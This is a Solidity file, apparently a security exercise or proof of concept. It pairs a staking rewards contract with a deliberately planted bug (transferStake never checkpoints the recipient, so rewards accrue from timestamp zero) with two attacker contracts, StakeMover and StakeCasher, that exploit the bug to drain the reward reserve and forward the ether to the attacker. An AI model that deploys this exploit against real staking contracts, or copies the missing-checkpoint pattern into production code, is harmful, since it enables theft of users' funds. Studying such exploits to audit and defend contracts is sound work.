// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice Linear staking rewards: RATE wei per staked ether per second since the last checkpoint.
library RewardMath {
    uint256 internal constant RATE = 1e12;

    function accrued(uint256 staked, uint256 since, uint256 until) internal pure returns (uint256) {
        return (staked * (until - since) * RATE) / 1 ether;
    }
}

/// @notice Stake ether, earn ether from a topped-up reserve. Every path checkpoints the caller
///         before its stake changes - but transferStake never checkpoints the recipient, whose
///         rewards then accrue from timestamp 0.
contract StakingRewards {
    mapping(address => uint256) public stakeOf;
    mapping(address => uint256) public lastCheckpoint;
    uint256 public totalStaked;

    event Rewarded(address indexed staker, uint256 amount);

    error PaymentFailed();

    receive() external payable {}

    function stake() external payable {
        totalStaked += msg.value;
        _checkpoint(msg.sender);
        stakeOf[msg.sender] += msg.value;
    }

    function claim() external {
        _checkpoint(msg.sender);
    }

    function transferStake(address to, uint256 amount) external {
        _checkpoint(msg.sender);
        stakeOf[msg.sender] -= amount;
        stakeOf[to] += amount;
    }

    function unstake(uint256 amount) external {
        _checkpoint(msg.sender);
        stakeOf[msg.sender] -= amount;
        totalStaked -= amount;
        _pay(msg.sender, amount);
    }

    function rewardReserve() public view returns (uint256) {
        return address(this).balance - totalStaked;
    }

    function _checkpoint(address staker) private {
        uint256 owed = RewardMath.accrued(stakeOf[staker], lastCheckpoint[staker], block.timestamp);
        lastCheckpoint[staker] = block.timestamp;
        if (owed == 0) return;
        uint256 reserve = rewardReserve();
        if (owed > reserve) owed = reserve;
        emit Rewarded(staker, owed);
        _pay(staker, owed);
    }

    function _pay(address to, uint256 amount) private {
        (bool ok,) = to.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }
}

/// @notice Attacker's second account: claims the rewards of a stake moved to it, unstakes,
///         forwards everything to its deployer.
contract StakeCasher {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function cash(StakingRewards rewards) external {
        rewards.claim();
        rewards.unstake(rewards.stakeOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// @notice Attacker: stakes, moves the stake to a never-checkpointed account and cashes it.
contract StakeMover {
    function attack(StakingRewards rewards, StakeCasher casher) external payable {
        rewards.stake{value: msg.value}();
        rewards.transferStake(address(casher), msg.value);
        casher.cash(rewards);
    }
}
